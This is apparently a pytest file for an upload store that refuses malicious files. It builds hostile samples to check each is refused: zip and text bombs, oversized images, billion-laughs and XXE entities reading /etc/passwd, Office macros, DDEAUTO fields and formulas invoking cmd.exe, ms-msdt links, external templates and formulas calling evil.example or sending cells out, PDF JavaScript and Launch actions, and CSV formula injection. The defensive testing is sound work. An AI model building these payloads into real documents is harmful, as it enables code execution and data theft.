"""Files that are made to harm: each is refused in seconds, with its reason, and the next file is kept.

The first four are the ones that stopped the bot; the others are of their kind.
"""

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image

from storage import files
from storage.child import CHILDREN
from storage.files import SIZE_LIMIT, FileStore, RefusedFileError
from tests.samples import (
    SHEET,
    TYPES,
    WORD,
    archive,
    compound,
    docx,
    ofd,
    pdf,
    photo,
    word_stream,
    workbook_stream,
    xlsx,
)

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(folder: Path, data: bytes) -> str:
    with pytest.raises(RefusedFileError) as error:
        FileStore(folder).keep(data, "现场.jpg")
    return error.value.reason


def version_255() -> bytes:
    whole = bytearray(docx())
    whole[whole.index(b"PK\1\2") + 6] = 255
    return bytes(whole)


def xmp_without_end() -> bytes:
    packet = b"<x:xmpmeta " * 180_000
    return photo()[:-2] + packet + b"\xff\xd9"


def pointers() -> bytes:
    """65,535 tables of places, all of them the same one."""
    entry = struct.pack("<HHII", 0x8825, 4, 1, 8)
    return photo(exif=b"II*\0" + struct.pack("<IH", 8, 65_535) + entry * 5_000)


def resized(data: bytes, width: int, height: int) -> bytes:
    """A JPEG or PNG that says it is so large."""
    if data.startswith(b"\x89"):
        head = b"IHDR" + struct.pack(">II", width, height) + data[24:29]
        return data[:12] + head + struct.pack(">I", zlib.crc32(head)) + data[33:]
    at = next(at for at in (data.find(bytes([0xFF, mark])) for mark in (0xC0, 0xC2)) if at > 0)
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def scans(number: int) -> bytes:
    """A progressive JPEG of 40 megapixels in which one scan stands again and again: each is a pass over all of it."""
    out = io.BytesIO()
    Image.new("L", (8000, 5000), 128).save(out, "JPEG", progressive=True, quality=10)
    whole = out.getvalue()
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * number + b"\xff\xd9"


def png_of(size: int) -> bytes:
    out = io.BytesIO()
    Image.new("L", (size, size)).save(out, "PNG")
    return out.getvalue()


def exploding_text() -> bytes:
    """A PNG with a packed text of 200 MB."""
    whole = photo(form="PNG")
    body = b"zTXtComment\0\0" + zlib.compress(bytes(200_000_000), 9)
    return whole[:33] + struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body)) + whole[33:]


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        (version_255, {"unreadable"}),
        (xmp_without_end, set()),
        (pointers, set()),
        (lambda: resized(photo(progressive=True), 60_000, 60_000), {"pixels"}),
        (lambda: resized(photo(), 60_000, 60_000), {"pixels"}),
        (lambda: resized(photo(), 14_000, 14_000), set()),
        (lambda: resized(photo(form="PNG"), 60_000, 60_000), {"pixels"}),
        (lambda: png_of(9_000), {"pixels"}),
        (exploding_text, {"unreadable", "pixels"}),
    ],
    ids=[
        "a zip of version 255",
        "XMP that never ends",
        "65,535 pointers to a place",
        "a progressive picture of 60,000 x 60,000",
        "a picture of 60,000 x 60,000",
        "a picture that says it is larger than it is",
        "a PNG of 60,000 x 60,000",
        "a PNG of 81 megapixels",
        "a packed text of 200 MB",
    ],
)
def test_a_picture_made_to_harm_is_answered_and_the_next_is_kept(
    tmp_path: Path, data: Callable[[], bytes], reasons: set[str]
) -> None:
    made = data()
    assert len(made) < SIZE_LIMIT
    before = time.monotonic()
    if reasons:
        assert refused(tmp_path, made) in reasons
    else:
        # There is nothing wrong with its pixels, and nothing else is looked at.
        assert FileStore(tmp_path).keep(made, "现场.jpg").size < SIZE_LIMIT
    # Twice the time of the processor that a look may take: others run beside this test.
    assert time.monotonic() - before < 45
    assert FileStore(tmp_path).keep(photo(), "现场.jpg").mime == "image/jpeg"


def test_a_picture_of_400_passes_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "LOOK", replace(files.LOOK, seconds=1))
    assert refused(tmp_path, scans(400)) == "slow"


def test_a_photo_of_the_largest_phones_is_kept(tmp_path: Path) -> None:
    """200 megapixels: decoded at half its size, so that no more than a quarter of them are ever held."""
    out = io.BytesIO()
    Image.new("RGB", (16_320, 12_240), "orange").save(out, "JPEG")
    store = FileStore(tmp_path)
    with Image.open(io.BytesIO(store.read(store.keep(out.getvalue(), "现场.jpg").sha256))) as kept:
        assert kept.size == (8160, 6120)


def test_a_child_that_dies_costs_one_file(tmp_path: Path) -> None:
    store = FileStore(tmp_path)
    store.keep(photo(), "现场.jpg")
    CHILDREN.close()
    assert store.keep(photo(), "现场.jpg").mime == "image/jpeg"


# Documents


def relationship(kind: str, target: str, mode: str = "External") -> dict[str, str | bytes]:
    told = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}">{told}</Relationships>'}


def typed(kind: str) -> dict[str, str | bytes]:
    return {"[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override PartName="/x" ContentType="{kind}"/></Types>'}


def field_of(*runs: str) -> str:
    return "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)


def bomb(parts: int, size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for number in range(parts):
            made.writestr(f"word/{number}.xml", b" " * size)
    return out.getvalue()


def twice() -> bytes:
    out = io.BytesIO(docx())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as made:
        made.writestr("word/document.xml", "<other/>")
    return out.getvalue()


def encrypted() -> bytes:
    whole = bytearray(docx())
    whole[whole.index(b"PK\1\2") + 8] |= 1
    return bytes(whole)


BILLION = '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
ZIPPED: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "macros": (lambda: docx(more={"word/vbaProject.bin": b"x"}), "active"),
    "macros in capitals": (lambda: docx(more={"WORD/VBAPROJECT.BIN": b"x"}), "active"),
    "macros elsewhere": (lambda: docx(more={"custom\\VbaProject.Bin": b"x"}), "active"),
    "a type with macros": (lambda: docx(kind="wordprocessingml.document.macroEnabled"), "active"),
    "a type with macros, written as numbers": (
        lambda: docx(more=typed("application/vnd.ms-word.document.&#109;acro&#69;nabled.main+xml")),
        "active",
    ),
    "a type with macros, in two bytes a letter": (
        lambda: docx(
            more={
                "[Content_Types].xml": (
                    '<?xml version="1.0" encoding="UTF-16"?><Types><Override ContentType="a/x.macroEnabled"/></Types>'
                ).encode("utf-16")
            }
        ),
        "active",
    ),
    "a macro sheet": (lambda: xlsx(more={"xl/macrosheets/sheet1.xml": "<m/>"}), "active"),
    "ActiveX": (lambda: docx(more={"word/activeX/activeX1.xml": "<m/>"}), "active"),
    "a template from elsewhere": (
        lambda: docx(more=relationship("attachedTemplate", "http://evil.example/a.dotm")),
        "active",
    ),
    "a picture from elsewhere": (lambda: docx(more=relationship("image", "http://evil.example/a.png")), "active"),
    "a frame of another machine": (lambda: docx(more=relationship("frame", "\\\\evil.example\\a")), "active"),
    "a link that starts a program": (lambda: docx(more=relationship("hyperlink", "ms-msdt:/id PCW")), "active"),
    "a field that starts a program": (lambda: docx(field_of(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k"')), "active"),
    "a field cut into runs": (lambda: docx(field_of(" D", "DE", "AUTO c:\\\\cmd.exe")), "active"),
    "a simple field": (lambda: docx('<w:fldSimple w:instr="dde c:\\\\cmd.exe"/>'), "active"),
    "a formula that starts a program": (lambda: xlsx("<c><f>cmd|'/C calc'!A0</f></c>"), "active"),
    "a formula that sends cells away": (lambda: xlsx('<c><f>webservice ("http://x/"&amp;A1)</f></c>'), "active"),
    "a link to a program": (lambda: xlsx(more={"xl/externalLinks/e1.xml": "<e><ddeLink/></e>"}), "active"),
    "connections": (lambda: xlsx(more={"xl/connections.xml": "<c/>"}), "active"),
    "a program inside": (lambda: docx(more={"word/embeddings/a.bin": b"MZ\x90\0"}), "active"),
    "a file behind an icon": (
        lambda: docx(more={"word/embeddings/o.bin": compound({"\1Ole10Native": b"x"})}),
        "active",
    ),
    "macros in the table of a diagram": (
        lambda: docx(more={"word/embeddings/t.xlsx": xlsx(more={"xl/vbaProject.bin": b"x"})}),
        "active",
    ),
    "a script among the files of an OFD": (lambda: ofd({"Doc_0/Attachs/a.JS": "alert(1)"}), "active"),
    "entities by the billion": (lambda: docx(more={"word/styles.xml": f"{BILLION}]><a>&j;</a>"}), "active"),
    "an entity that reads a file": (
        lambda: docx(more={"word/styles.xml": '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'}),
        "active",
    ),
    "two gigabytes of spaces": (lambda: bomb(5, 64_000_000), "slow"),
    "a thousand thousand parts": (lambda: bomb(10_001, 0), "slow"),
    "one part twice": (twice, "unreadable"),
    "a part outside": (lambda: docx(more={"../../evil.xml": "<a/>"}), "unreadable"),
    "a password": (encrypted, "locked"),
    "half of it": (lambda: docx()[:-30], "unreadable"),
    "no document": (lambda: archive({"readme.md": "x"}), "type"),
    "no XML": (lambda: docx("<unclosed>"), "unreadable"),
    "XML of a thousand thousand levels": (lambda: docx("<a>" * 1_000_000), "unreadable"),
}


@pytest.mark.parametrize("name", ZIPPED)
def test_a_document_that_runs_or_breaks_something_is_refused(tmp_path: Path, name: str) -> None:
    data, reason = ZIPPED[name]
    assert refused(tmp_path, data()) == reason


SOUND: Mapping[str, Callable[[], bytes]] = {
    "a link to a page": lambda: docx(more=relationship("hyperlink", "https://example.com/")),
    "a mail address": lambda: docx(more=relationship("hyperlink", "mailto:a@example.com")),
    "a field with the page": lambda: docx(field_of(" PAGE ", " HYPERLINK ")),
    "the table of a diagram": lambda: docx(more={"word/embeddings/t.xlsx": xlsx()}),
    "a formula": lambda: xlsx('<c><f>SUM(A1:A9)</f></c><c><f>IF(A1="a|b",1,2)</f></c>'),
    "cells of another workbook": lambda: xlsx(
        more={
            "xl/externalLinks/_rels/e1.xml.rels": (
                f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="{OFFICE}/externalLinkPath" '
                'Target="file:///C:/Users/a/台账.xlsx" TargetMode="External"/></Relationships>'
            )
        }
    ),
    "the invoice of an OFD": lambda: ofd({"Doc_0/Attachs/invoice.xml": "<i/>"}),
    "a document whose main part has another name": lambda: archive(
        {
            "[Content_Types].xml": docx_types("/word/document2.xml"),
            "word/document2.xml": f'<w:document xmlns:w="{WORD}"/>',
        }
    ),
    "a workbook of WPS": lambda: xlsx(f'<c xmlns="{SHEET}"><v>1</v></c>'),
}


def docx_types(part: str) -> str:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return f'<Types xmlns="{TYPES}"><Override PartName="{part}" ContentType="{kind}"/></Types>'


@pytest.mark.parametrize("name", SOUND)
def test_what_people_write_every_day_is_taken(tmp_path: Path, name: str) -> None:
    data = SOUND[name]()
    store = FileStore(tmp_path)
    assert store.read(store.keep(data, "方案").sha256) == data


WIDE = "DDEAUTO".encode("utf-16-le")
COMPOUND: Mapping[str, tuple[dict[str, bytes], str]] = {
    "macros": ({"WordDocument": word_stream(), "Macros": b"x"}, "active"),
    "macros in capitals": ({"WordDocument": word_stream(), "_vba_PROJECT": b"x"}, "active"),
    "macros of a workbook": ({"Workbook": workbook_stream(), "_VBA_PROJECT_CUR": b"x"}, "active"),
    "a file behind an icon": ({"WordDocument": word_stream(), "\1Ole10Native": b"x"}, "active"),
    "a field that starts a program": ({"WordDocument": word_stream(b"\x13 DDEAUTO c:\\cmd ")}, "active"),
    "a field in two bytes a letter": ({"WordDocument": word_stream(b"\x13\0 \0" + WIDE + b" \0")}, "active"),
    "a macro sheet": ({"Workbook": workbook_stream((0x85, b"\0\0\0\0\0\1\1\0a"))}, "active"),
    "a link to a program": ({"Workbook": workbook_stream((0x1AE, b"\1\0\7\0\0cmd\3/C a"))}, "active"),
    "a password": ({"WordDocument": word_stream(flags=0x0100)}, "locked"),
    "a password of a workbook": ({"Workbook": workbook_stream((0x2F, bytes(54)))}, "locked"),
    "a document behind a password": ({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}, "locked"),
    "something else": ({"Contents": b"x"}, "type"),
}


@pytest.mark.parametrize("name", COMPOUND)
def test_an_old_document_that_runs_something_is_refused(tmp_path: Path, name: str) -> None:
    streams, reason = COMPOUND[name]
    assert refused(tmp_path, compound(streams)) == reason


def written(change: Callable[[pikepdf.Pdf], None], **more: Any) -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        out = io.BytesIO()
        document.save(out, **more)
        return out.getvalue()


def script(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")
    document.Root["/OpenAction"] = document.make_indirect(action)


def of_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0]["/AA"] = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name("/Named"), N=pikepdf.Name("/Print"))
    )


def launch(document: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name("/Annot"),
        Subtype=pikepdf.Name("/Link"),
        Rect=[0, 0, 9, 9],
        A=pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="cmd.exe"),
    )
    document.pages[0]["/Annots"] = pikepdf.Array([document.make_indirect(link)])


def attached(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def hexed() -> bytes:
    return written(script, compress_streams=False).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


PDFS: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "a script": (lambda: written(script), "active"),
    "a script under a name in hexadecimal": (hexed, "active"),
    "a script packed into an object stream": (
        lambda: written(script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active",
    ),
    "what a page does by itself": (lambda: written(of_a_page), "active"),
    "a program": (lambda: written(launch), "active"),
    "a program, packed": (lambda: written(launch, object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"),
    "a file inside": (lambda: written(attached), "active"),
    "a form with a script": (lambda: pdf(AcroForm=pikepdf.Dictionary(XFA="x")), "active"),
    "a script behind its end": (lambda: pdf() + b"1 0 obj << /S /JavaScript /JS (x) >> endobj", "active"),
    "a script, locked for its owner": (
        lambda: written(
            script,
            encryption=pikepdf.Encryption(owner="o", user=""),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "active",
    ),
    "a password": (lambda: written(lambda _: None, encryption=pikepdf.Encryption(owner="o", user="u")), "locked"),
    "no page": (lambda: b"%PDF-1.7\n%%EOF\n", "unreadable"),
}


@pytest.mark.parametrize("name", PDFS)
def test_a_pdf_that_runs_something_is_refused(tmp_path: Path, name: str) -> None:
    data, reason = PDFS[name]
    assert refused(tmp_path, data()) == reason


def test_a_pdf_that_opens_at_a_page_or_is_locked_for_its_owner_is_taken(tmp_path: Path) -> None:
    def at_its_page(document: pikepdf.Pdf) -> None:
        document.Root["/OpenAction"] = pikepdf.Array([document.pages[0].obj, pikepdf.Name("/Fit")])

    store = FileStore(tmp_path)
    for data in (
        written(at_its_page),
        written(at_its_page, encryption=pikepdf.Encryption(owner="o", user="")),
        written(at_its_page, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ):
        assert store.keep(data, "方案.pdf").mime == "application/pdf"


@pytest.mark.parametrize("start", ["=cmd|' /C calc'!A0", "+1+1", "-1", "@SUM(A1)", "\t=1", "a,=1"])
def test_no_list_of_cells_opens_as_a_table(tmp_path: Path, start: str) -> None:
    """Whatever its cells begin with: a text never ends in .csv, so that no spreadsheet opens it by itself."""
    for name in ("名单.csv", "名单.CSV", "名单.slk", "名单.txt", "名单"):
        assert FileStore(tmp_path).keep(start.encode(), name).name.endswith(".txt")
